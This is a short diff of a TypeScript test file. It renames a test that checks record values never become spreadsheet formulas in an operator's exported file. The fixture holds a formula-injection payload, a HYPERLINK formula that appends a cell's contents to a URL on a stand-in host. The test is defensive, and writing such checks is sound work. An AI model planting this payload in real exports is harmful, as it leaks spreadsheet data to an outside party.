@@ -130,7 +130,7 @@ test('the key is made once, is the owner’s alone, and another file is none', t
   refused(key)
 })
 
-test('S19: what stands in the records is never a formula in a file of the operator', async t => {
+test('what stands in the records is never a formula in a file of the operator', async t => {
   const { file, out } = stage(t)
   const row = (id: string, subscriber: string) => at(0, subscriber, 3).replace('r0', id)
   const formula = '=HYPERLINK("http://a.example/?"&A1)'
